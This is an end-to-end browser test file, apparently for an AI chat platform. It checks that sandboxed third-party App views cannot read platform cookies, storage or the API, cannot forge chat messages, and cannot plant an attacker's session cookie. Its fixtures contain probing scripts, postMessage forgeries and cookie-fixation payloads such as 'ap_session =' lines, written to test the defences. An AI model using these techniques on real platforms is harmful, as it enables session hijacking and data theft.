// In Chromium: an App's view inside the real chat page cannot read the platform's cookie or localStorage, cannot
// reach `parent.document` nor call the platform's API as the person, and the chat accepts a message only from that
// view's frame: not from a frame nested inside it (same opaque origin, another window), and not from a page of
// another origin holding a reference to the chat's window. The person is signed in (HttpOnly session cookie, and a
// cookie the platform's scripts could read) and the platform's origin holds a localStorage secret; the App's view is
// opened from the chat's Apps bar (the route `GET /agents/{agentId}/apps`) in its sandboxed iframe, and its script
// reports what it could reach to the App's server. Also top-level through the proxy. The chat page with the App view
// is screenshotted (test/web/artifacts) and checked by axe-core. And an App cannot sign a person in as someone else:
// its Set-Cookie lines carrying the attacker's real session secret under spellings of the platform's cookie a browser
// accepts (`ap_session =…`, which Chromium trims, on the API's path so it would be sent first), and the sign-in cookie
// `ap_oidc`, never land; the person's page keeps exactly its own session. Skipped, saying why, where Chromium is not
// installed.
import { createServer, type Server } from 'node:http';
import { connect, createServer as createTcpServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { waitUntil } from '#testing/fixtures';
import { ADMIN_KEY, client, CORE, startTestApi, uniqueName, type TestApi } from './support/api.js';
import {
  builtOrFail,
  chromiumOrSkip,
  invitedPerson,
  launch,
  PASSWORD,
  screenshot,
  seriousViolations,
  signIn,
} from './web/browser.js';

const GENUINE = 'a note from the App view';
const FORGED_NESTED = 'forged by a frame nested in the view';
const FORGED_ELSEWHERE = 'forged by a page of another origin';

/** The App's view: tries the platform's cookie, storage, parent document and API, reports, then talks to the chat. */
const VIEW = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Notes</title><main><h1>Notes</h1></main><script>
(async () => {
  const base = location.pathname.replace(/\\/user\\/.*$/, '');
  const report = { where: location.pathname, origin: String(self.origin) };
  try { report.cookie = document.cookie; } catch (error) { report.cookie = 'blocked:' + error.name; }
  try { report.storage = localStorage.getItem('platform-secret'); } catch (error) { report.storage = 'blocked:' + error.name; }
  try { report.parentDocument = String(parent.document.cookie); } catch (error) { report.parentDocument = 'blocked:' + error.name; }
  try {
    const me = await fetch('/api/v1/core/users/me', { credentials: 'include' });
    report.api = me.status;
  } catch (error) { report.api = 'blocked:' + error.name; }
  await fetch(base + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
  if (parent !== self) {
    // Another window of the same opaque origin tries to speak for the view.
    document.body.append(Object.assign(document.createElement('iframe'), { src: base + '/forger', title: 'nested' }));
    parent.postMessage({ type: 'insert', text: ${JSON.stringify(GENUINE)} }, '*');
  }
})();
</script></html>`;

const FORGER = `<!doctype html><meta charset="utf-8"><title>nested</title><script>
parent.parent.postMessage({ type: 'insert', text: ${JSON.stringify(FORGED_NESTED)} }, '*');
fetch(location.pathname.replace(/\\/forger$/, '/report'), { method: 'POST', mode: 'no-cors', body: JSON.stringify({ where: location.pathname, origin: String(self.origin) }) });
</script>`;

/** Every message a window receives, recorded before the page's own scripts run (a probe of the test). */
const PROBE = `window.__messages = [];
addEventListener('message', (event) => window.__messages.push({ origin: event.origin, text: event.data && event.data.text }));`;

const run = chromiumOrSkip('App isolation in the chat (browser)');
const describeBrowser = run ? describe : describe.skip;

describeBrowser('App isolation in the chat, in Chromium (e2e)', () => {
  let api: TestApi;
  let appServer: Server;
  let appUrl: string;
  const reports: Record<string, unknown>[] = [];
  let browser: Browser;
  /** The Set-Cookie lines the App's `/cookie-jar` answers with (the attacker's session secret in them once known). */
  let planted: string[] = [];

  beforeAll(async () => {
    builtOrFail();
    api = await startTestApi();
    appServer = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const html = (body: string) =>
          response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
        if (request.url === '/meta') {
          response.writeHead(200, { 'content-type': 'application/json' });
          response.end(
            JSON.stringify({
              id: 'spy',
              name: 'Curious App',
              views: [{ id: 'notes', title: 'Notes', path: '/user/notes' }],
            }),
          );
        } else if (request.url === '/report') {
          reports.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>);
          response.writeHead(204).end();
        } else if (request.url === '/cookie-jar')
          response
            .writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'set-cookie': planted })
            .end(
              '<!doctype html><html lang="en"><title>Cookie jar</title><main><h1>Cookies</h1></main></html>',
            );
        else if (request.url === '/forger') html(FORGER);
        else if (request.url === '/attacker')
          html('<!doctype html><title>Another site</title><p>elsewhere</p>');
        else html(VIEW);
      });
    });
    await new Promise<void>((done) => appServer.listen(0, '127.0.0.1', done));
    appUrl = `http://127.0.0.1:${(appServer.address() as AddressInfo).port}`;
    browser = await launch();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await api?.close();
    appServer?.closeAllConnections();
    appServer?.close();
  });

  const messagesOf = async (page: Page) =>
    (await page.evaluate('window.__messages')) as { origin: string; text?: string }[];

  it("an App view inside the chat reaches no platform cookie, storage or parent document, and the chat accepts only its frame's messages", async () => {
    const admin = client(api.url, ADMIN_KEY);
    const space = await admin.post<{ id: string }>(`${CORE}/spaces`, { name: uniqueName('Apps') });
    const agent = await admin.post<{ id: string }>(`${CORE}/agents`, {
      spaceId: space.body.id,
      name: uniqueName('Helper'),
      model: 'offline-chat',
      memoryEnabled: false,
    });
    expect(agent.status).toBe(201);
    const app = await admin.post<{ id: string }>(`${CORE}/apps`, {
      name: 'Curious App',
      source: { type: 'url', url: appUrl },
      enablement: { kind: 'agents', agentIds: [agent.body.id] },
    });
    expect(app.status).toBe(201);
    const email = `iso-${Date.now()}@example.com`;
    const person = await invitedPerson(api.url, email);
    // The person uses the Space's Agent as its member (Space roles decide what a person reaches).
    const member = await admin.post(`${CORE}/spaces/${space.body.id}/members`, {
      userId: person.userId,
      role: 'member',
    });
    expect(member.status).toBe(201);

    const context = await browser.newContext({ locale: 'en-US' });
    await context.addInitScript(PROBE);
    const platform = await context.newPage();
    platform.setDefaultTimeout(15_000);
    await signIn(platform, api.url, email);
    // (Expressions as text: they run in the browser, where the DOM is; this file compiles without it.)
    await platform.evaluate("localStorage.setItem('platform-secret', 'platform-storage-secret')");
    await context.addCookies([
      // A cookie the platform's scripts could read (not HttpOnly): the App must not see it either.
      { name: 'platform_visible', value: 'readable-by-platform-scripts', url: api.url, sameSite: 'Lax' },
    ]);
    expect(await platform.evaluate('document.cookie')).toContain('platform_visible');
    const secret = (await context.cookies(api.url)).find((cookie) => cookie.name === 'ap_session')!.value;
    expect(secret.length).toBeGreaterThan(10);

    // The App view, top-level through the proxy (a session path): an opaque origin (the proxy's CSP sandbox).
    await platform.goto(`${api.url}/app/${app.body.id}/user/top`);
    await waitUntil(() => reports.length >= 1, 15_000);
    await platform.close();

    // A page of another origin opens the chat and keeps a reference to its window.
    const elsewhere = await context.newPage();
    elsewhere.setDefaultTimeout(15_000);
    await elsewhere.goto(`${appUrl}/attacker`);
    const chatPath = `/space/${space.body.id}/agent/${agent.body.id}`;
    const [chat] = await Promise.all([
      context.waitForEvent('page'),
      elsewhere.evaluate(`window.chat = window.open(${JSON.stringify(api.url + chatPath)}); true`),
    ]);
    chat.setDefaultTimeout(15_000);
    await chat.waitForURL(`**${chatPath}`);
    const csp = (await chat.request.get(`${api.url}${chatPath}`)).headers()['content-security-policy']!;
    expect(csp).toContain("frame-src 'self'");

    await chat
      .getByRole('navigation', { name: 'Apps' })
      .getByRole('button', { name: 'Curious App: Notes' })
      .click();
    const frame = chat.locator('iframe[title="Curious App: Notes"]');
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts allow-forms');
    // The view's genuine message and the nested frame's forgery both arrive; then the other origin's.
    await waitUntil(async () => {
      const texts = (await messagesOf(chat)).map((m) => m.text);
      return texts.includes(GENUINE) && texts.includes(FORGED_NESTED);
    }, 15_000);
    await elsewhere.evaluate(
      `window.chat.postMessage({ type: 'insert', text: ${JSON.stringify(FORGED_ELSEWHERE)} }, '*')`,
    );
    await waitUntil(async () => (await messagesOf(chat)).some((m) => m.text === FORGED_ELSEWHERE), 15_000);
    expect((await messagesOf(chat)).find((m) => m.text === FORGED_ELSEWHERE)!.origin).toBe(appUrl);

    // Only the view's own message was accepted: in the message box and in the list of what the App inserted.
    expect(await chat.getByLabel('Message', { exact: true }).inputValue()).toBe(GENUINE);
    expect(
      await chat.getByRole('list', { name: 'Inserted by the App' }).getByRole('listitem').allTextContents(),
    ).toEqual([GENUINE]);
    await waitUntil(() => reports.length >= 3, 15_000);
    await screenshot(chat, 'chat-app-view');
    expect(await seriousViolations(chat)).toEqual([]);
    await context.close();

    const views = reports.filter((report) => String(report.where).includes('/user/'));
    expect(views.map((report) => report.where)).toEqual([
      `/app/${app.body.id}/user/top`,
      `/app/${app.body.id}/user/notes`,
    ]);
    for (const report of views) {
      expect(report.origin).toBe('null'); // an opaque origin, not the platform's
      expect(String(report.cookie)).not.toContain('platform_visible');
      expect(String(report.cookie)).not.toContain(secret);
      expect(report.storage).not.toBe('platform-storage-secret');
      expect(report.api).not.toBe(200);
    }
    // Framed in the chat, the parent document is out of reach.
    expect(String(views[1]!.parentDocument)).toMatch(/^blocked:/);
    expect(reports.find((report) => String(report.where).endsWith('/forger'))?.origin).toBe('null');
  }, 120_000);

  it('the Apps of an Agent: its users see them, others are refused; with APP_ORIGIN the views and frame-src point there', async () => {
    const admin = client(api.url, ADMIN_KEY);
    const space = await admin.post<{ id: string }>(`${CORE}/spaces`, { name: uniqueName('Apps') });
    const agent = await admin.post<{ id: string }>(`${CORE}/agents`, {
      spaceId: space.body.id,
      name: uniqueName('Other'),
      model: 'offline-chat',
    });
    const app = await admin.post<{ id: string }>(`${CORE}/apps`, {
      name: 'Listed App',
      source: { type: 'url', url: appUrl },
      enablement: { kind: 'agents', agentIds: [agent.body.id] },
    });
    const listed = await admin.get<{
      appOrigin: string | null;
      data: { id: string; views: { url: string }[] }[];
    }>(`${CORE}/agents/${agent.body.id}/apps`);
    expect(listed.status).toBe(200);
    expect(listed.body.appOrigin).toBeNull();
    expect(listed.body.data).toEqual([
      expect.objectContaining({
        id: app.body.id,
        views: [expect.objectContaining({ url: `/app/${app.body.id}/user/notes` })],
      }),
    ]);
    const stranger = await admin.post<{ key: string }>(`${CORE}/api-keys`, {
      name: uniqueName('stranger'),
      owner: { email: `stranger-${Date.now()}@example.com` },
      agents: [],
    });
    expect(stranger.status).toBe(201);
    const refused = await client(api.url, stranger.body.key).get(`${CORE}/agents/${agent.body.id}/apps`);
    expect(refused.status).toBe(403);
    expect(JSON.stringify(refused.body)).not.toContain(app.body.id);
    const bridge = await fetch(`${api.url}${CORE}/agents/${agent.body.id}/apps`, {
      headers: { authorization: `Bearer ${(app.body as { token?: string }).token}` },
    });
    // An App's token is no person: never its chat's App views.
    expect([401, 403]).toContain(bridge.status);
    await bridge.text();
    expect((await admin.get(`${CORE}/agents/agt_nothing/apps`)).status).toBe(404);

    const separate = await startTestApi({ APP_ORIGIN: 'http://apps.localhost:4999' });
    try {
      const page = await fetch(`${separate.url}/space/spc_x/agent/agt_x`);
      await page.text();
      // The App origin, and the instance's own embed pages and MCP App views by their paths (an Agent's embed preview,
      // a tool's sandboxed view), not 'self'.
      const instance = new URL(separate.url).origin;
      expect(page.headers.get('content-security-policy')).toContain(
        `frame-src http://apps.localhost:4999 ${instance}/embed/ ${instance}/api/v1/core/mcp-views/;`,
      );
      expect(page.headers.get('content-security-policy')).not.toContain("frame-src 'self'");
      const other = client(separate.url, ADMIN_KEY);
      const otherSpace = await other.post<{ id: string }>(`${CORE}/spaces`, { name: uniqueName('Apps') });
      const otherAgent = await other.post<{ id: string }>(`${CORE}/agents`, {
        spaceId: otherSpace.body.id,
        name: uniqueName('Separate'),
      });
      const otherApp = await other.post<{ id: string }>(`${CORE}/apps`, {
        name: 'Separate App',
        source: { type: 'url', url: appUrl },
        enablement: { kind: 'global' },
      });
      let views: { appOrigin: string | null; data: { views: { url: string }[] }[] } = {
        appOrigin: null,
        data: [],
      };
      // The global App's allowlist reaches the new Agent through the allowlist process.
      await waitUntil(async () => {
        views = (await other.get<typeof views>(`${CORE}/agents/${otherAgent.body.id}/apps`)).body;
        return views.data.length === 1;
      }, 10_000);
      expect(views.appOrigin).toBe('http://apps.localhost:4999');
      expect(views.data[0]!.views[0]!.url).toBe(
        `http://apps.localhost:4999/app/${otherApp.body.id}/user/notes`,
      );
    } finally {
      await separate.close();
    }
  }, 120_000);

  it('with APP_ORIGIN on another loopback address: the view opens in the chat as that origin, with the person, and reaches none of the platform', async () => {
    // 127.0.0.2 is another site than 127.0.0.1: a port there forwarding to the api stands for a host pointing at it.
    let apiPort = 0;
    const tunnel = createTcpServer((socket) => {
      const upstream = connect(apiPort, '127.0.0.1');
      socket.pipe(upstream).pipe(socket);
      socket.on('error', () => upstream.destroy());
      upstream.on('error', () => socket.destroy());
    });
    await new Promise<void>((done) => tunnel.listen(0, '127.0.0.2', done));
    const appOrigin = `http://127.0.0.2:${(tunnel.address() as AddressInfo).port}`;
    const separate = await startTestApi({ APP_ORIGIN: appOrigin });
    apiPort = Number(new URL(separate.url).port);
    try {
      const admin = client(separate.url, ADMIN_KEY);
      const space = await admin.post<{ id: string }>(`${CORE}/spaces`, { name: uniqueName('Apps') });
      const agent = await admin.post<{ id: string }>(`${CORE}/agents`, {
        spaceId: space.body.id,
        name: uniqueName('Origin'),
        model: 'offline-chat',
        memoryEnabled: false,
      });
      const app = await admin.post<{ id: string }>(`${CORE}/apps`, {
        name: 'Curious App',
        source: { type: 'url', url: appUrl },
        enablement: { kind: 'agents', agentIds: [agent.body.id] },
      });
      expect(app.status).toBe(201);
      const email = `origin-${Date.now()}@example.com`;
      const person = await invitedPerson(separate.url, email);
      await admin.post(`${CORE}/spaces/${space.body.id}/members`, { userId: person.userId, role: 'member' });
      // Without the person's ticket the view's session path is refused on the App origin.
      const bare = await fetch(`${appOrigin}/app/${app.body.id}/user/notes`);
      expect(bare.status).toBe(401);
      await bare.text();

      const context = await browser.newContext({ locale: 'en-US' });
      await context.addInitScript(PROBE);
      const chat = await context.newPage();
      chat.setDefaultTimeout(15_000);
      await signIn(chat, separate.url, email);
      await chat.evaluate("localStorage.setItem('platform-secret', 'platform-storage-secret')");
      const secret = (await context.cookies(separate.url)).find(
        (cookie) => cookie.name === 'ap_session',
      )!.value;
      await chat.goto(`${separate.url}/space/${space.body.id}/agent/${agent.body.id}`);
      const button = chat
        .getByRole('navigation', { name: 'Apps' })
        .getByRole('button', { name: 'Curious App: Notes' });
      await button.waitFor();
      // Opening the view asks for the Apps list again (its token lives 15 minutes; the chat may be open longer):
      // the frame gets the URL of that answer, not the one the bar was drawn from.
      const listed = chat.waitForResponse(
        (response) =>
          response.request().method() === 'GET' && response.url().endsWith(`/agents/${agent.body.id}/apps`),
      );
      await button.click();
      const fresh = (await (await listed).json()) as { data: { views: { url: string }[] }[] };
      const frame = chat.locator('iframe[title="Curious App: Notes"]');
      const src = await frame.getAttribute('src');
      expect(src).toMatch(new RegExp(`^${appOrigin}/app/${app.body.id}/user/notes\\?`));
      expect(src).toContain('svc_session_token=');
      expect(src).toBe(fresh.data[0]!.views[0]!.url);
      const where = `/app/${app.body.id}/user/notes`;
      await waitUntil(() => reports.some((report) => report.where === where), 15_000);
      const view = reports.find((report) => report.where === where)!;
      // The view is its own origin (the App origin), with none of the platform's cookie, storage or API.
      expect(view.origin).toBe(appOrigin);
      expect(String(view.cookie)).not.toContain(secret);
      expect(view.storage).not.toBe('platform-storage-secret');
      expect(view.api).not.toBe(200);
      expect(String(view.parentDocument)).toMatch(/^blocked:/);
      // And it works in the chat: its message is accepted (from its origin and its frame only).
      await waitUntil(
        async () => (await chat.getByLabel('Message', { exact: true }).inputValue()) === GENUINE,
        15_000,
      );
      await context.close();
    } finally {
      await separate.close();
      await new Promise((done) => tunnel.close(done));
    }
  }, 120_000);

  it("a victim who opens an App keeps their own session: the App's `ap_session =…` and `ap_oidc` never land", async () => {
    const admin = client(api.url, ADMIN_KEY);
    const app = await admin.post<{ id: string }>(`${CORE}/apps`, {
      name: 'Cookie jar',
      source: { type: 'url', url: appUrl },
    });
    expect(app.status).toBe(201);
    // The attacker's own, valid session: what the App plants would sign the victim in as the attacker.
    const attackerEmail = `attacker-${Date.now()}@example.com`;
    await invitedPerson(api.url, attackerEmail, { name: 'Mallory' });
    const signedIn = await fetch(`${api.url}${CORE}/auth/sign-in`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: api.url },
      body: JSON.stringify({ email: attackerEmail, password: PASSWORD }),
    });
    await signedIn.text();
    const attackerSecret = /ap_session=([A-Za-z0-9_-]+)/.exec(signedIn.headers.get('set-cookie') ?? '')![1]!;
    planted = [
      `ap_session =${attackerSecret}; Path=/api/v1/core`,
      `ap_session=${attackerSecret}; Path=/`,
      'ap_oidc=attacker-sign-in; Path=/api/v1/core/auth/oidc',
      'theme=dark; Path=/',
    ];

    const victimEmail = `victim-${Date.now()}@example.com`;
    await invitedPerson(api.url, victimEmail, { name: 'Victim' });
    const context = await browser.newContext({ locale: 'en-US' });
    const page = await context.newPage();
    page.setDefaultTimeout(15_000);
    await signIn(page, api.url, victimEmail);
    const own = (await context.cookies(api.url)).find((cookie) => cookie.name === 'ap_session')!.value;

    const opened = await page.goto(`${api.url}/app/${app.body.id}/cookie-jar`);
    expect(opened?.status()).toBe(200);
    await page.getByRole('heading', { name: 'Cookies' }).waitFor();

    const jar = await context.cookies(api.url);
    const everywhere = await context.cookies([
      `${api.url}/api/v1/core/users/me`,
      `${api.url}${CORE}/auth/oidc/x`,
    ]);
    expect(everywhere.filter((cookie) => cookie.name.trim() === 'ap_session').map((c) => c.value)).toEqual([
      own,
    ]);
    expect(everywhere.some((cookie) => cookie.name.trim().toLowerCase() === 'ap_oidc')).toBe(false);
    expect(jar.some((cookie) => cookie.value === attackerSecret)).toBe(false);
    const theme = (await context.cookies(`${api.url}/app/${app.body.id}/cookie-jar`)).find(
      (c) => c.name === 'theme',
    );
    expect(theme?.path).toBe(`/app/${app.body.id}/`);

    // The page's session is still the victim's: the web app's API calls answer as the victim.
    await page.goto(`${api.url}/`);
    await page.getByRole('navigation').waitFor();
    const me = (await page.evaluate(
      `fetch('${CORE}/users/me', { credentials: 'include' }).then((r) => r.json())`,
    )) as { email?: string };
    expect(me.email).toBe(victimEmail);
    await context.close();
  }, 120_000);
});
